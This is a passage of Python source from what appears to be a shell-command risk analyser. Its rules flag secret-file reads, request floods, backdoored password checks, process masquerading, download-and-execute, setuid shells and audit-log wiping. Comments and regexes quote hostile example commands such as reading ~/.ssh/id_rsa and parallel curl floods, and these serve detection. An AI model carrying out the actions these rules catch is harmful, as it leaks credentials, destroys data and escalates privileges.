        """`sed -i`/`perl -pi` rewriting a password check to accept a fixed value (a backdoor in source)."""
        expression = " ".join(args)
        if re.search(r"password|passwd|auth|login|verify|credential", expression, re.I) and re.search(
            r"return\s+(?:True|true|1)\b|==\s*[\"'][^\"']{4,}[\"']", expression
        ):
            self._add("shell.backdoor", RiskLevel.HIGH, Category.PERSISTENCE,
                      f"{name} rewrites an authentication check in place (accepts a fixed password)",
                      node)  # fmt: skip

    def _unbounded_fanout(self, args: list[str], options: tuple[str, ...], node: Any) -> None:
        """`xargs -P 0` / `parallel -j 0`: as many processes at once as there are input lines; hundreds of
        parallel requests to one site are a flood."""
        values = W.option_values(args, *options)
        if "0" in values or any(a in ("-P0", "-j0") for a in args):
            self._add("shell.fork-storm", RiskLevel.HIGH, Category.RESOURCE,
                      "starts one process per input line, all at once (no limit on parallel jobs)", node)  # fmt: skip
        elif any(v.isdigit() and int(v) >= 100 for v in values) and (
            any(W.base(a) in T.DOWNLOADERS for a in args) or re.search(r"\b(?:curl|wget)\s", " ".join(args))
        ):  # (`xargs -P 300 sh -c 'curl …'` too)
            self._add("shell.flood", RiskLevel.HIGH, Category.RESOURCE,
                      "sends hundreds of requests in parallel (a flood against the site)", node)  # fmt: skip
        elif any(v.isdigit() and int(v) >= 20 for v in values) and any(W.base(a) in MAILERS for a in args):
            self._add("shell.flood", RiskLevel.HIGH, Category.RESOURCE,
                      "sends mail from dozens of processes at once (a mail flood)", node)  # fmt: skip
        elif any(v.isdigit() and int(v) >= 100 for v in values) and any(W.base(a) in T.SQL_CLIENTS for a in args):
            self._add("shell.flood", RiskLevel.HIGH, Category.RESOURCE,
                      "opens hundreds of database sessions at once (the server's connections run out)",
                      node)  # fmt: skip
        elif any(v.isdigit() and int(v) >= 100 for v in values) and any(
            W.base(a) in T.CLOUD_TOOLS or W.base(a) in PLATFORM_TOOLS for a in args
        ):
            what = "starts hundreds of cloud jobs or resources at once (billed, and every one runs)"
            self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE, what, node)

    def _masquerade(self, shown: str, node: Any) -> None:
        """``exec -a NAME``: the process shows up under another name in ps and top."""
        first = shown.split()[0] if shown.split() else ""
        disguised = (shown.startswith("[") and shown.endswith("]")) or W.base(first) in T.SYSTEM_PROCESS_NAMES
        self._add(
            "shell.masquerade",
            RiskLevel.HIGH if disguised else RiskLevel.MEDIUM,
            Category.PROCESS,
            f"exec -a disguises a process as {shown[:40]!r}"
            + (" (a kernel thread or system daemon)" if disguised else ""),
            node,
        )

    def _path_arguments(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Secret files handed to commands that read them (cat ~/.ssh/id_rsa, jq . .env...)."""
        if name in T.SECRET_USERS or name in _COMMANDS_WITH_OWN_PATH_RULES:
            return
        if name in T.PACKAGE_MANAGERS and any(w in T.PACKAGE_ACTIONS for w in args[:3]):
            return  # `apt-get install keepassxc`: package names, not files
        if name in T.SHELLS and any(a == "-c" or (a.startswith("-") and not a.startswith("--") and "c" in a)
                                    for a in args[:3]):
            return  # `bash -c 'test -f ~/.ssh/id_ed25519 || ssh-keygen …'`: a script (analysed as one), not a file
        if name == "vercel" and args[:2] == ["env", "pull"]:
            # `vercel env pull .env.local`: the file is written with the project's secrets (sent on, a leak)
            pulled = [a for a in args[2:] if not a.startswith("-")][:1] or [".env.local"]
            self.staged.update(pulled)
            return
        previous = ""
        # grep PATTERN FILE...: the first operand is a pattern (unless -e/-f gave it)
        pattern_first = name in ("grep", "egrep", "fgrep", "rg") and not any(
            a in ("-e", "-f", "--regexp", "--file") or a.startswith(("--regexp=", "--file=")) for a in args
        )
        # `klist -k keytab` prints the principals a keytab holds; only -K prints their keys
        names_only = name == "klist" and not any(a.startswith("-") and a[1:2] != "-" and "K" in a for a in args)
        selective = False  # grep for named settings that hold no secret (`^(db_host|http_port)\s*=`)
        secret_pattern = False  # grep for a credential's name (`grep token`)
        words = " ".join(a for a in args if not a.startswith("-"))
        if pattern_first and self._stdin_logs and _LOGGED_SECRET.search(words) and not _LOGIN_EVENT.search(words):
            # `journalctl | grep -i 'password|token'`: the secrets that were logged (sent on, a leak)
            flow.secret = True
        if name == "opendkim-genkey":
            return  # `-D DIR`: where the new key pair is written; nothing is read
        if name in _DNSSEC_KEY_TOOLS or name == "unbound-anchor":
            return  # `dnssec-keygen -K DIR`: the zone's keys made or their dates set where BIND keeps them
        if name in ("dig", "nsupdate", "rndc", "kdig", "knsupdate") and W.option_values(args, "-k", "-y"):
            keys = [k for k in W.option_values(args, "-k") if paths.classify(k).secret]
            if keys:
                # a TSIG key signs a zone transfer or an update: used here, not read out
                self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} signs its request with {paths.describe(paths.classify(keys[0]))}", node)  # fmt: skip
                return
        recipients = W.option_values(args, "-r", "--recipient", "-R", "--recipients-file")
        if name in ("age", "rage", "gpg", "gpg2") and recipients and not any(a in ("-d", "--decrypt") for a in args):
            # `age -r age1… -o secrets.yaml.age secrets.yaml`: sealed for a recipient's key; what comes out is the
            # ciphertext, which only that key opens
            sealed = [a for a in args if not a.startswith("-") and a not in recipients and paths.classify(a).secret]
            if sealed:
                # (the sealed copy still carries the secret, for whoever holds that key: sent away, it leaves)
                self.staged.update(W.option_values(args, "-o", "--output"))
                self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} encrypts {paths.describe(paths.classify(sealed[0]))} for a recipient's key",
                          node)  # fmt: skip
                return
        if name in ("age", "rage", "gpg", "gpg2", "sops") and any(a in ("-d", "--decrypt") for a in args):
            # `age -d -i key secrets/env.age > .env.local`: the user's own encrypted file opened (what comes out
            # stays secret data: sent anywhere, a leak)
            sealed = [a for a in args if not a.startswith("-") and paths.classify(a).secret]
            if sealed:
                flow.secret = True
                self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} decrypts {paths.describe(paths.classify(sealed[-1]))}", node)  # fmt: skip
                return
        if name == "openssl" and "-pubout" in args and not any(a in ("-text", "-noout") for a in args):
            # `openssl rsa -in key.private -pubout`: only the public half comes out (to publish or compare it)
            keys = [a for a in W.option_values(args, "-in") if paths.classify(a).secret]
            if keys:
                self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"openssl derives the public half of {paths.describe(paths.classify(keys[0]))}",
                          node)  # fmt: skip
                return
        if name == "php" and "-l" in args:
            return  # `php -l config.php`: a syntax check, which prints none of the file
        if name in ("grep", "egrep", "fgrep") and any(
            a in ("--quiet", "--silent", "--count", "--files-with-matches", "--files-without-match")
            or (re.fullmatch(r"-[A-Za-z]+", a) is not None and bool(set(a[1:]) & set("qcLl")))
            for a in args
        ):
            return  # `grep -qE "^APP_SECRET=" .env.local`: whether a line is there (or how many), none of it printed
        if name == "openssl" and args[:1] in (["x509"], ["verify"]) and "-noout" in args:
            return  # a certificate's dates, subject or chain checked: x509 reads certificates (public) only
        ca_keys = [k for k in W.option_values(args, "-ca-key", "--ca-key") if paths.classify(k).secret]
        if ca_keys and not any(a in ("-text", "-noout") for a in args):
            # `nebula-cert sign -ca-key ca.key … -out-key host.key`: a CA's key signs a new certificate (used, not
            # printed; the new key is written)
            self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{name} signs a certificate with {paths.describe(paths.classify(ca_keys[0]))}",
                      node)  # fmt: skip
            return
        if name in ("diff", "cmp") and _against_own_backup(args) and any(paths.classify(a).secret for a in args):
            # `diff shop.env.bak shop.env` after `sed -i.bak`: only the lines the edit changed are shown
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{name} compares a file with its own backup copy (prints the lines an edit changed)",
                      node)  # fmt: skip
            return
        if name in ("jq", "yq") and _settings_secret_picked(args):
            # `jq -r '.services.CoAuthoring.secret.inbox.string' /etc/onlyoffice/…/local.json`: a service's secret
            # taken out of its settings (to log in to the service itself, as often as to send it away); a file that
            # is itself a secret one is read below like any other
            flow.credential = True  # (one setting's secret value: to log in with, or to send away)
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{name} takes a secret out of a service's settings file", node)  # fmt: skip
        for arg in args:
            if previous in _RESOURCE_NAME_OPTIONS and name in T.CLOUD_TOOLS:
                previous = arg
                continue  # `az keyvault key show --name disk-kek`: a resource's name in the cloud, not a file
            excluded = previous in T.EXCLUDE_OPTIONS or arg.startswith(_EXCLUDE_ASSIGNMENTS)
            credential_option = ("file" in previous and _CREDENTIAL_FILE_OPTION.match(previous) is not None) or (
                "file" in arg and _CREDENTIAL_FILE_OPTION.match(arg.split("=", 1)[0]) is not None
            ) or previous in ("--config", "--config-file", "--conf")  # (a server's own settings, read to run)
            # (`odoo-bin -c /etc/odoo/odoo.conf`: a program's own settings file, by its short option)
            credential_option = credential_option or (
                previous == "-c" and arg.endswith(_SETTINGS_SUFFIXES) and name not in T.SHELLS
                and not name.startswith("python")
            ) or (previous == "-c" and name == "php" and arg.endswith(".php"))  # (phpList's `-c config.php`)
            # (`ipa-getkeytab -k FILE`, `kadmin ktadd -k FILE`: the keytab is written there, not read)
            output = previous in T.OUTPUT_OPTIONS or (name in _KEYTAB_WRITERS and previous in ("-k", "--keytab"))
            # (`tar -C ~/.n8n custom`: the folder tar works in, joined to its operands by the archive rule)
            changes_dir = name in ("tar", "bsdtar") and (previous in ("-C", "--directory") or arg.startswith(
                "--directory="))
            previous = arg
            if changes_dir:
                continue
            if output:
                self._made_keys.add(arg)  # a key this script makes: reading it back later uses its own key
                continue  # `-out key.pem` creates the file (graded as a write elsewhere), it does not read it
            if excluded:
                continue  # `--exclude .env` keeps the file out
            if pattern_first and not arg.startswith("-"):
                pattern_first = False
                selective = _NAMED_SETTINGS.search(arg) is not None and not _SECRET_WORD.search(arg) and not any(
                    a in ("-v", "--invert-match") for a in args
                )
                secret_pattern = _SECRET_WORD.search(arg) is not None
                continue
            if name.startswith("pt-") and re.search(r"(?:^|,)F=", arg):
                continue  # a Percona tool's DSN naming the option file it logs in with (`h=db,D=shop,F=~/.my.cnf`)
            value = arg.split("=", 1)[1] if arg.startswith("-") and "=" in arg else arg
            value = value[1:] if value.startswith("@") else value
            if value.startswith(("http://", "https://")):
                continue  # a web address names no local file
            if name == "semgrep" and value.startswith(("p/", "r/")):
                continue  # `semgrep --config p/secrets`: a ruleset of the registry, by name
            info = paths.classify(value)
            plain_word = not value or value.startswith("-") or ("/" not in value and not value.startswith("."))
            if plain_word and not info.secret and value not in self.staged:
                continue
            if plain_word and name in _NAMED_NOT_FILES:
                # `vault secrets list`, `kubectl get secrets`: a subcommand or a resource kind, not a file;
                # `modinfo wireguard`: a kernel module's name
                continue
            if plain_word and value == "kubeconfig" and name in _CLUSTER_CLIS:
                continue  # `kind get kubeconfig`: a subcommand that prints a local cluster's config, not a file
            one_line_records = posixpath.basename(info.path) in (".netrc", "_netrc", ".pgpass", "shadow", "gshadow",
                                                                  ".htpasswd", ".git-credentials")  # fmt: skip
            if selective and info.secret and not info.history and not one_line_records:
                self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} reads settings that hold no secret from {paths.describe(info)}", node)  # fmt: skip
                continue
            if names_only and info.secret:
                self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} lists the principals in {paths.describe(info)} (names, not keys)", node)  # fmt: skip
                continue
            signs = name in _SIGNERS or (name == "openssl" and any(a in ("-sign", "-signkey") for a in args))
            if signs and info.secret and not info.history:
                # `sbsign --key db.key --cert db.pem …`: a binary signed with the key; the key is not printed
                self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} signs with {paths.describe(info)}", node)  # fmt: skip
                continue
            if credential_option and info.secret and not info.history:
                # `imapsync --passfile1 secrets/old`: the program logs in with it; it does not print it
                self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} logs in or unlocks with {paths.describe(info)}", node)  # fmt: skip
                continue
            if secret_pattern and info.secret and paths.tool_profile(info.path):
                # `grep token ~/.kube/config`: the one part of a tool's profile that is a credential, printed
                flow.secret = True
                self._add("shell.secret-read", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} prints the credentials in {paths.describe(info)}", node)  # fmt: skip
                continue
            if info.secret or info.history or value in self.staged:
                self._read(info, node, flow, name)

    def _read(self, info: paths.PathInfo, node: Any, flow: _Flow, via: str = "") -> None:
        if info.path in self._own_files:
            return  # a file this script wrote itself from data that was not secret
        if info.path in self.staged:
            flow.secret = True  # `cat /tmp/k`: the secret data this script wrote there a moment ago
        if info.path in self._made_keys and W.base(via) in ("openssl", "ssh-keygen", "step", "certtool", "gpg"):
            # `openssl rsa -in rsa_key.p8 -pubout`: the key made a line earlier, turned into its public half
            self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{via} uses {paths.describe(info)}, a key this script made", node)  # fmt: skip
            return
        level = paths.read_level(info)
        if level <= RiskLevel.SAFE:
            return
        if self._as_root and info.privilege and info.secret:
            level = max(level, RiskLevel.HIGH)  # `sudo cat /etc/sudoers`: root's rules, read with root's rights
        own = info.kind is paths.PathKind.RELATIVE and HOLE not in info.path
        if own and W.base(via) in T.SECRET_CONSUMERS:
            # `sops exec-env secrets/dev.enc.env`, `op run --env-file=.env.tpl`: the project's own
            # secrets handed to the program they configure
            level = RiskLevel.MEDIUM
        if (
            W.base(via) in _ENCRYPTING_BACKUPS
            and info.secret
            and not info.path.startswith("~")
            and node is not None
            and _BACKUP_TAKEN.search(self._text(node)) is not None
            and _BACKUP_RESTORED.search(self._text(node)) is None
        ):
            # `restic backup /opt/app/.env`: a server's settings kept in an encrypted repository (where the
            # repository lives is judged by its own rules)
            level = min(level, RiskLevel.MEDIUM)
        if W.base(via) in T.KEY_TOOLS and info.secret and not info.history:
            # a signing tool, a build, a node given its key or keystore uses it; it does not print it
            self._add("shell.key-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{via} uses {paths.describe(info)}", node)  # fmt: skip
            return
        flow.secret = flow.secret or info.secret or info.history
        if info.secret:
            self._secret_reads.add(info.path)
        who = f"{via} reads" if via else "reads"
        self._add(
            "shell.secret-read",
            level,
            Category.EXFILTRATION if info.secret else Category.FILESYSTEM,
            f"{who} {paths.describe(info)}",
            node,
        )

    def _write(
        self, info: paths.PathInfo, node: Any, *, op: str = ">", via: str = "", cap: RiskLevel | None = None
    ) -> None:
        level = paths.write_level(info)
        if info.secret and paths.profile_edit(info.path, self._secret_reads):
            level = min(level, RiskLevel.MEDIUM)  # a setting changed in the profile it read (a registry's helper)
            self.findings = paths.soften_profile_reads(self.findings, info.path, "shell.secret-read")
        if info.secret and via == "sed" and paths.application_settings(info.path):
            # one setting of a deployed application's own settings file edited in place (`s|^DB_PASSWORD=.*|…|`):
            # judged by what the edit sets (debug mode, sign-up, a relay), not by the file
            level = min(level, RiskLevel.MEDIUM)
        if op == ">" and paths.audit_log(info.path) and not self._heredoc_text:
            level = max(level, RiskLevel.HIGH)  # `: > /var/log/…/audit.log`: the record of who did what, emptied
        if info.path in self._absent and (op == ">" or via == "tee") and not (info.persistence or info.privilege):
            level = min(level, RiskLevel.MEDIUM)  # `[ -f "$cfg" ] || echo '{}' > "$cfg"`: made only when missing
        if payment_file(info.path) and info.kind not in (paths.PathKind.RELATIVE, paths.PathKind.TEMP):
            level = max(level, RiskLevel.HIGH)  # an approved payment file rewritten: where the money goes
        if self._mass and op == ">" and HOLE in info.path:
            # truncating every file find/xargs lists destroys the tree like deleting it
            level = max(level, paths.delete_level(info, recursive=True))
        if self._in_made_folder(info):
            level = min(level, RiskLevel.MEDIUM)  # into a folder this script made (a release unpacked beside the live)
        if level == RiskLevel.HIGH and via in ("cp", "install", "tee") and paths.tested_site_config(
            info.path, self.enclosing + self._source.decode("utf-8", "replace")
        ):
            # a site's configuration put in place whole and checked with `nginx -t` before a reload (an edit of the
            # one there, a line deleted with sed, is judged by what it changes)
            level = RiskLevel.MEDIUM
        if cap is not None:
            level = min(level, cap)
        if level <= RiskLevel.SAFE:
            return
        if info.kind is paths.PathKind.NULL:
            return
        category = (
            Category.PRIVILEGE
            if info.privilege
            else Category.PERSISTENCE
            if info.persistence or info.history
            else Category.FILESYSTEM
        )
        rule = "shell.history-tamper" if info.history else "shell.persistence" if info.persistence else "shell.write"
        verb = "appends to" if op == ">>" else "writes"
        prefix = f"{via} " if via else ""
        self._add(rule, level, category, f"{prefix}{verb} {paths.describe(info)}", node)

    def _deployed(self, sources: Sequence[str]) -> bool:
        """``sources`` are what a deployment copies into an application's tree: a build's output in the project, a
        release this script unpacked into a folder it made (not left empty), or a work tree it checked out at a tag."""
        filled = (*self._own_files, *self._created)

        def deployable(source: str) -> bool:
            folder = source.rstrip("/") + "/"
            made = [d for d in self.made_dirs if folder.startswith(d + "/") and d.strip("/").count("/") >= 1]
            return (
                (paths.classify(source).kind is paths.PathKind.RELATIVE and HOLE not in source)
                or (paths.project_output(source.rstrip("/")) and HOLE not in source)  # (`~/src/app/frontend/dist/`)
                or any(folder.startswith(d + "/") for d in self._checked_out)
                or any(f.startswith(d + "/") for d in made for f in filled)
                or any((u + "/").startswith(d + "/") for d in made for u in self._unpacked_into)
            )

        return bool(sources) and all(map(deployable, sources))

    def _in_made_folder(self, info: paths.PathInfo) -> bool:
        """``info`` lies in (or is) a folder this script made with mkdir in an application's tree (/var/www, /srv,
        /opt), and is nothing that runs by itself or holds secrets: what lands there is new, nothing there changed."""
        if info.secret or info.persistence or info.privilege or info.history or not paths.application_tree(info.path):
            return False
        path = info.path.rstrip("/") + "/"
        return any(path.startswith(d + "/") for d in self.made_dirs if d.strip("/").count("/") >= 1)

    def _delete(
        self,
        target: str,
        node: Any,
        *,
        recursive: bool,
        via: str,
        filtered: bool = False,
        aged: bool = False,
        expired: bool = False,
        own_rotation: bool = False,
    ) -> None:
        made = target in self._own_files or target in self._created or target in self._made_keys
        if (made or target in self._archives) and not recursive:
            return  # removing the scratch file this script wrote (a key it decoded, or generated, included)
        archived = posixpath.normpath(target.rstrip("/") or "/") in self._archived or any(
            a.startswith(target.rstrip("/") + ".t") and target.strip(HOLE + "/") != "" for a in self._archives
        )  # (`tar -czf "$DEST.tgz" -C … && rm -rf "$DEST"`: the folder just archived beside itself)
        if target.startswith(("*/", HOLE + "/")) and self._cwd and self._cwd.startswith(("/", "~")):
            # `cd /mnt/c/Users && rm -rf */Documents`: every entry of the directory `cd` went to
            target = posixpath.join(self._cwd, target)
        elif (
            self._system_cwd()
            and not target.startswith(("/", "~", "$", HOLE, "-"))
            and not paths.rebuilt_folder(posixpath.normpath(target).split("/", 1)[0])
        ):
            # `cd /var/lib/mysql && rm -f ib_logfile*`: files of that directory, not of a project (whose build output
            # and dependencies, `cd /srv/app && rm -rf vendor`, are fetched or built again)
            target = posixpath.join(self._cwd or ".", target)
        recursive = recursive or self._mass
        info = paths.classify(target.rstrip("*").rstrip("/") or "/" if target.endswith("/*") else target)
        level = paths.delete_level(info, recursive=recursive)
        if posixpath.basename(target.rstrip("/")) == ".git" and posixpath.normpath(posixpath.dirname(
            target.rstrip("/"))) in self.cloned:
            level = min(level, RiskLevel.LOW)  # the history of a clone this script made (vendoring a pinned tag)
        own_folder = target.rstrip("/") in self.made_dirs and target.strip("/").replace(HOLE, "").count("/") >= 1
        if recursive and own_folder and not self._mount_point(target.rstrip("/")):
            level = min(level, RiskLevel.LOW)  # a folder this script made (a staging copy, archived a moment ago)
        data_folder = info.kind in (paths.PathKind.EXTERNAL, paths.PathKind.RELATIVE, paths.PathKind.UNKNOWN) or (
            info.path.startswith("/var/backups/") and info.path.count("/") >= 3  # a service's dump folder
        )
        if archived and data_folder:
            level = min(level, RiskLevel.MEDIUM)  # `tar czf 2023.tgz 2023/ && rm -rf 2023/`: kept in the archive
        if level == RiskLevel.HIGH and (
            self._reinstalled(info.path)
            or paths.static_folder_rebuilt(info.path, self._source.decode("utf-8", "replace"))
        ):
            # `rm -rf /opt/nvim-linux64 && tar -C /opt -xzf nvim-linux64.tar.gz`: replaced (or a framework's collected
            # static files, `… && manage.py collectstatic`, filled again)
            level = RiskLevel.MEDIUM
        if level == RiskLevel.HIGH and not recursive and target in self._encrypted_inputs:
            level = RiskLevel.MEDIUM  # `gpg -o x.tar.gz.gpg -e x.tar.gz && rm x.tar.gz`: the plaintext of a copy kept
        if filtered:
            level = paths.filtered_delete_level(info, level, aged=aged, expired=expired)  # find -name/-mtime...
        if own_rotation or (
            self._rotated_items and target.rstrip("/").endswith("/" + HOLE) and not info.secret
            and posixpath.dirname(target.rstrip("/")).strip("/").count("/") >= 1  # (not `/$d`: the machine's folders)
        ):
            # old copies of what this script writes there, pruned by age; or each item past a listing's newest few
            # (`ls -1t | tail -n +4 | while read old; do rm -rf "/opt/app/releases/$old"`)
            level = min(level, RiskLevel.MEDIUM)
        elif (
            self._as_root
            and recursive
            and level == RiskLevel.MEDIUM
            and info.kind in (paths.PathKind.EXTERNAL, paths.PathKind.UNKNOWN)
            and not (filtered and aged)  # (`sudo find /srv/backups -name 'x-*.tgz' -mtime +30 -delete`: a rotation)
        ):
            level = RiskLevel.HIGH  # root wiping a tree outside the project (a service's data directory)
        if level <= RiskLevel.SAFE:
            return
        rule = "shell.history-tamper" if info.history else "shell.delete"
        what = "recursively deletes" if recursive else "deletes"
        category = Category.PERSISTENCE if info.history else Category.FILESYSTEM
        self._add(rule, level, category, f"{via} {what} {paths.describe(info)}", node)

    def _rule_open_proxy(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """A SOCKS or HTTP proxy listening on every address without a login: anyone relays through this machine
        (into the networks it reaches, and out under its address)."""
        if name == "microsocks":
            everywhere = W.option_values(args, "-i") in ([], ["0.0.0.0"], ["::"])
            login = "-u" in args
        else:
            listens = W.option_values(args, "-l", "-L")
            everywhere = any(re.search(r"://(?:0\.0\.0\.0|\[?::\]?)?:\d+", u) for u in listens)
            login = any("@" in u for u in listens)
        if everywhere and not login:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} runs an open proxy on every address (anyone relays through this machine)",
                      node)  # fmt: skip

    def _rule_jvm_attach(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``jcmd PID JVMTI.agent_load AGENT``: an agent's code loaded into a running JVM (it sees and changes
        everything that process holds)."""
        loading = [i for i, a in enumerate(args) if a in ("JVMTI.agent_load", "load", "VM.load_agent")]
        if not loading:
            return
        agent = next((a for a in args[loading[0] + 1 :] if not a.startswith("-")), "")
        info = paths.classify(agent)
        hidden = any(c.startswith(".") and c not in (".", "..") for c in agent.split("/")[:-1])
        foreign = hidden or info.kind is paths.PathKind.TEMP or agent in self.downloaded or self._in_clone(agent)
        many = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
        self._add("shell.code-injection", RiskLevel.HIGH if foreign or many else RiskLevel.MEDIUM, Category.PROCESS,
                  f"{name} loads an agent ({agent.replace(HOLE, '…') or 'a jar'}) into a running JVM"
                  + (", one process after another" if many else "") + " (its code runs inside the process)",
                  node)  # fmt: skip

    def _mount_point(self, path: str) -> bool:
        """Something is mounted on ``path`` by this script (the folder made for it holds a share, not new files)."""
        source = self._source.decode("utf-8", "replace")
        return re.search(r"\b(?:mount|sshfs|rclone\s+mount|mount\.\w+)\b[^\n]*" + re.escape(path), source) is not None

    def _reinstalled(self, path: str) -> bool:
        """``path`` is a tool's folder under /opt that the script unpacks again from an archive of the same name
        (the vendor's way to upgrade: the old copy removed, the new one extracted in its place), or a virtualenv
        the script makes again."""
        folder = path.rstrip("/")
        source = self._source.decode("utf-8", "replace")
        if HOLE not in folder and re.search(rf"(?:-m\s+venv|\bvirtualenv)\s+(?:-\S+\s+)*{re.escape(folder)}/?(?:\s|$)",
                                            source):
            return True  # `rm -rf /opt/app/venv-new && python3 -m venv /opt/app/venv-new`: a virtualenv made anew
        name = folder[len("/opt/"):] if folder.startswith("/opt/") else ""
        if not name or "/" in name or HOLE in name or len(name) < 3:
            return False
        archive = rf"\b{re.escape(name)}[\w.+-]*\.(?:tar\.gz|tgz|tar\.xz|tar\.bz2|tar\.zst|zip)\b"
        return re.search(r"\btar\b[^\n]*-C\s*/opt/?\s[^\n]*" + archive + r"|\btar\b[^\n]*" + archive
                         + r"[^\n]*-C\s*/opt/?(?:\s|$)|\bunzip\b[^\n]*" + archive + r"[^\n]*-d\s*/opt/?(?:\s|$)",
                         source) is not None  # fmt: skip

    # ----------------------------------------------------------------- command rules
    def _rule_interpreter(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name.startswith("php") and args[:1] and args[0].endswith(("bin/magento", "/occ")):
            # `php bin/magento ...`, `php occ ...`: the store's or the Nextcloud's own CLI
            self._rule_cms("magento" if args[0].endswith("magento") else "occ", args[1:], node, flow)
            return
        if name == "osascript":
            args = W.skip_valued(args, {"-l"})  # `osascript -l JavaScript -e CODE`: the language, not a script
        if name in ("powershell", "pwsh"):
            # `-W Hidden -Exec Bypass -Command …`: PowerShell's options (any case) and their values
            valued = [i for i, a in enumerate(args[:-1]) if a.lower() in _POWERSHELL_VALUED]
            args = [a for i, a in enumerate(args) if i not in valued and i - 1 not in valued]
            args = ["-Command" if a.lower() in ("-c", "-command") else a for a in args]
            # `-Enc`, `-ec`, `-encodedcommand`: any case, any prefix PowerShell accepts
            args = ["-EncodedCommand" if a.lower() in ("-e", "-ec", "-enc", "-encodedcommand") else a for a in args]
        if args[:2] in (["-m", "base64"], ["-mbase64"]) and any(a in ("-d", "--decode") for a in args[2:]):
            self._rule_decoder("base64", ["-d"], node, flow)  # `python3 -m base64 -d`: base64 -d by another name
            return
        if name == "perl" and any(a.startswith("-") and not a.startswith("--") and "i" in a for a in args):
            self._auth_backdoor(name, args, node)  # perl -pi -e: an in-place edit
        lang = "shell" if name in T.SHELLS else "python" if name in T.PYTHONS or name.startswith("python") else "other"
        inline_flag = {
            "shell": ("-c",),
            "python": ("-c",),
            "other": ("-e", "-E", "-r", "--eval", "-c", "-Command", "-command", "-enc", "-EncodedCommand", "-batch"),
        }[lang]
        if lang == "shell" and any(
            a == "-p" or (a.startswith("-") and not a.startswith("--") and "p" in a[1:]) for a in args[:1]
        ):
            # privileged mode keeps the effective uid a setuid binary gave (the GTFOBins root shell)
            self._add(
                "shell.privilege",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} -p keeps elevated (setuid) privileges",
                node,
            )
        i = 0
        while i < len(args):
            arg = args[i]
            if arg in inline_flag or (
                lang == "shell"
                and arg.startswith("-")
                and not arg.startswith("--")
                and arg.endswith("c")
                and "c" in arg[1:]
            ):
                code = args[i + 1] if i + 1 < len(args) else ""
                if code == "-":
                    break  # `powershell -Command -`: the code comes on stdin
                # (a decoded `$'…'` argument after constant code is data the code is given, not the code)
                decoded_data = (flow.decode and not (flow.download or flow.network) and HOLE not in code
                                and code in self._text(node))  # fmt: skip
                if (flow.remote and not decoded_data) or (self._xargs_remote and code.strip(HOLE + " ") == ""):
                    # (`… | xargs -I{} sh -c '{}'`: each line a download gave is run as a command)
                    self._add(
                        "shell.download-exec",
                        RiskLevel.CRITICAL,
                        Category.DYNAMIC_CODE,
                        f"{name} runs code that was downloaded or decoded",
                        node,
                    )
                elif code.strip(HOLE + " ") == "":
                    self._add(
                        "shell.dynamic-code",
                        RiskLevel.MEDIUM,
                        Category.DYNAMIC_CODE,
                        f"{name} runs code that is only known at run time",
                        node,
                    )
                elif lang == "other":
                    self._other_interpreter(name, " ".join([*args[:i], code]), node, arg, args[i + 2 :])
                    flow.network |= uploads_stdin(code)  # `… | ruby -e 'Net::HTTP.post(URI(u), STDIN.read)'`
                    # `rails runner 'puts User.pluck(:email, :phone).to_json'`: people's records, sent anywhere a leak
                    flow.secret |= reads_people(code)
                else:
                    # `sh -c CODE NAME ARG...`: NAME is $0, ARG... are $1...
                    self._nested(code, lang, node, f"{name} {arg}", positional=args[i + 2 :])
                return
            if arg in ("-m",) and lang == "python":
                self._python_module(args[i + 1 :], node)
                return
            if arg == "--" and "-s" in args[:i] and lang == "shell":
                break  # `bash -s -- --threads 4`: the script is stdin, the rest are its arguments
            if arg.startswith("-") and arg != "-":
                i += 1
                continue
            # a script operand
            if arg != "-" and (
                arg in self.downloaded or posixpath.basename(arg) in self.downloaded or self._in_clone(arg)
            ):
                self._runs_download(name, arg, node)
            if arg == "-" or arg == "/dev/stdin":
                break
            if HOLE in arg and flow.remote:
                self._add(
                    "shell.download-exec",
                    RiskLevel.CRITICAL,
                    Category.DYNAMIC_CODE,
                    f"{name} runs a downloaded script",
                    node,
                )
            rest = args[i + 1 :]
            if W.base(arg) == "manage.py" and rest[:1] == ["shell"] and "-c" in rest[1:-1]:
                # `python manage.py shell -c CODE`: the Django project runs CODE
                self._nested(rest[rest.index("-c") + 1], "python", node, "manage.py shell -c")
                return
            console = _application_console(W.base(arg), rest)
            if console:
                flow.interp = console  # `python3 manage.py shell`, `python3 odoo-bin shell`: reads its code from stdin
            return
        flow.interp = lang

    def _rule_pip(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Installing from a plain-HTTP or bare-IP index (or package URL): code that runs at install,
        from a server nobody can verify (dependency confusion, a man in the middle)."""
        if args[:1] == ["pip"]:  # uv pip install
            args = args[1:]
        if args[:1] == ["config"] and "set" in args:
            joined = " ".join(args).lower()
            if "trusted-host" in joined or re.search(r"index-url\s+http://", joined):
                self._add("shell.tls-off", RiskLevel.HIGH, Category.NETWORK,
                          f"{name} config trusts a package index without TLS for every install", node)  # fmt: skip
            return
        if "install" not in args and "download" not in args:
            return
